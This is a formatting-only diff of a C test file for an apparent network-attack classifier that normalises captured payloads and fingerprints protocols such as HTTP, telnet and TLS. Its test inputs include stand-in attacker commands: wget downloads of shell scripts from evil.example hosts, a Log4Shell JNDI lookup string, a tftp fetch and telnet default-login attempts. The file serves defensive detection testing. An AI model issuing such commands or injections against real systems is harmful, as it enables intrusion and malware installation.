@@ -17,7 +17,10 @@ static const char *normal(const char *s)
 	size_t n = class_normal(bytes_str(s), out), k = 0;
 	cr_assert_leq(n, strlen(s));
 	for (size_t i = 0; i < n; i++) {
-		const char *m = out[i] == CLASS_NUMBER ? "<N>" : out[i] == CLASS_TOKEN ? "<T>" : out[i] == CLASS_HOST ? "<H>" : NULL;
+		const char *m = out[i] == CLASS_NUMBER  ? "<N>"
+				: out[i] == CLASS_TOKEN ? "<T>"
+				: out[i] == CLASS_HOST  ? "<H>"
+							: NULL;
 		k += (size_t)(m ? sprintf(text + k, "%s", m) : sprintf(text + k, "%c", out[i]));
 	}
 	text[k] = 0;
@@ -32,7 +35,8 @@ Test(class, hosts)
 	same("wget http://evil.example.org:8080/bins.sh;", "wget http://<H>/bins.sh;");
 	same("${jndi:ldap://1.2.3.4:1389/a}", "${jndi:ldap://<H>/a}");
 	same("x ://", "x ://");
-	same("GET / HTTP/1.1\r\nHost: 1.2.3.4:81\r\nA: b\r\n", "GET / HTTP/<N>.<N>\r\nHost: <H>\r\nA: b\r\n");
+	same("GET / HTTP/1.1\r\nHost: 1.2.3.4:81\r\nA: b\r\n",
+	     "GET / HTTP/<N>.<N>\r\nHost: <H>\r\nA: b\r\n");
 	same("\r\nhOST:example\r\n", "\r\nhOST:<H>\r\n");
 	same("\r\nHost: \r\n", "\r\nHost: \r\n");
 	same("tftp -g 1.2.3.4 69", "tftp -g <H> <N>");
@@ -82,7 +86,9 @@ Test(class, numbers)
 Test(class, linear, .timeout = 240)
 {
 	static uint8_t in[512 << 10], out[512 << 10];
-	static const char *const pieces[] = {"a-", "a+", "a@", "1:", "f:", "a.", "1.", "\nhost:", "://", "0x", "a1", "-", "aaaaaaaa", ":", "Aaaaaaa-", "f0:", "a1.b-"};
+	static const char *const pieces[] = {"a-",       "a+",      "a@",       "1:",  "f:",   "a.",
+					     "1.",       "\nhost:", "://",      "0x",  "a1",   "-",
+					     "aaaaaaaa", ":",       "Aaaaaaa-", "f0:", "a1.b-"};
 	for (size_t i = 0; i < sizeof pieces / sizeof *pieces; i++) {
 		for (size_t k = 0; k < sizeof in; k++)
 			in[k] = (uint8_t)pieces[i][k % strlen(pieces[i])];
@@ -100,15 +106,19 @@ static const char *class(uint8_t proto, uint16_t port, const void *p, size_t n)
 	return text[which];
 }
 
-#define equal(port, a, b)                                                                                              \
-	cr_expect_str_eq(class(APP_TCP, port, a, sizeof(a) - 1), class(APP_TCP, port, b, sizeof(b) - 1))
-#define differ(port, a, b)                                                                                             \
-	cr_expect_str_neq(class(APP_TCP, port, a, sizeof(a) - 1), class(APP_TCP, port, b, sizeof(b) - 1))
+#define equal(port, a, b)                                        \
+	cr_expect_str_eq(class(APP_TCP, port, a, sizeof(a) - 1), \
+			 class(APP_TCP, port, b, sizeof(b) - 1))
+#define differ(port, a, b)                                        \
+	cr_expect_str_neq(class(APP_TCP, port, a, sizeof(a) - 1), \
+			  class(APP_TCP, port, b, sizeof(b) - 1))
 
 Test(class, campaigns)
 {
-	equal(80, "GET /shell?cd+/tmp;wget+http://1.2.3.4/a.sh HTTP/1.1\r\nHost: 9.9.9.9:80\r\n\r\n",
-	      "GET /shell?cd+/tmp;wget+http://evil.example.com:8080/a.sh HTTP/1.1\r\nHost: 8.8.8.8\r\n\r\n");
+	equal(80,
+	      "GET /shell?cd+/tmp;wget+http://1.2.3.4/a.sh HTTP/1.1\r\nHost: 9.9.9.9:80\r\n\r\n",
+	      "GET /shell?cd+/tmp;wget+http://evil.example.com:8080/a.sh HTTP/1.1\r\nHost: "
+	      "8.8.8.8\r\n\r\n");
 	differ(80, "GET /shell?a HTTP/1.1\r\n\r\n", "GET /shell?b HTTP/1.1\r\n\r\n");
 	equal(23, "admin\r\n1234\r\n", "admin\r\n99\r\n");
 	differ(23, "admin\r\nroot\r\n", "admin\r\ntoor\r\n");
@@ -129,7 +139,8 @@ Test(class, stable)
 	char text[CLASS_TEXT];
 	class_of(bytes_str("GET /x HTTP/1.0\r\n\r\n"), NULL, text);
 	cr_expect_str_eq(text, "1:24b72e9bb533f0fd9e2c7cba7ec753ca");
-	cr_expect_str_eq(class(APP_TCP, 80, "GET /x HTTP/1.0\r\n\r\n", 19), "1:b77f353ffb9dabff5d81e93341ffdcc3");
+	cr_expect_str_eq(class(APP_TCP, 80, "GET /x HTTP/1.0\r\n\r\n", 19),
+			 "1:b77f353ffb9dabff5d81e93341ffdcc3");
 }
 
 /* The ID of a query, the random of a hello and the like are not part of the class. */
@@ -146,14 +157,20 @@ Test(class, binary)
 	q[n - 3] = 1;
 	cr_expect_str_neq(class(APP_UDP, 53, p, n), class(APP_UDP, 53, q, n));
 
-	memcpy(p, unhex("1603010036 01000032 0303 0000000000000000000000000000000000000000000000000000000000000000 00 0004 1301 c02b 0100 0005 000a 0001 00", &n), 96);
+	memcpy(p,
+	       unhex("1603010036 01000032 0303 "
+		     "0000000000000000000000000000000000000000000000000000000000000000 00 0004 "
+		     "1301 c02b 0100 0005 000a 0001 00",
+		     &n),
+	       96);
 	memcpy(q, p, sizeof q);
 	q[20] = 77;
 	cr_expect_str_eq(class(APP_TCP, 443, p, n), class(APP_TCP, 443, q, n));
 	cr_expect(rec.tls && rec.tls->ja4.n);
 	q[46] = 2;
 	cr_expect_str_neq(class(APP_TCP, 443, p, n), class(APP_TCP, 443, q, n));
-	cr_expect_str_neq(class(APP_TCP, 443, p, n), class(APP_TCP, 443, p, n - 4)); /* without JA4 */
+	cr_expect_str_neq(class(APP_TCP, 443, p, n),
+			  class(APP_TCP, 443, p, n - 4)); /* without JA4 */
 }
 
 /* Every part that is classed by its fields makes some. */
@@ -170,7 +187,8 @@ Test(class, all_fields)
 		{.dns = &(struct msg_dns){.type = x}},
 		{.smb = &(struct msg_smb){.version = x, .dialects = strs}},
 		{.rdp = &(struct msg_rdp){.cookie = x, .protocols = strs}},
-		{.mysql = &(struct msg_mysql){.database = x}, .login = &(struct msg_login){.user = x}},
+		{.mysql = &(struct msg_mysql){.database = x},
+		 .login = &(struct msg_login){.user = x}},
 		{.postgres = &(struct msg_postgres){.kind = x}},
 		{.tds = &(struct msg_tds){.kind = x}},
 		{.ldap = &(struct msg_ldap){.operation = x}},
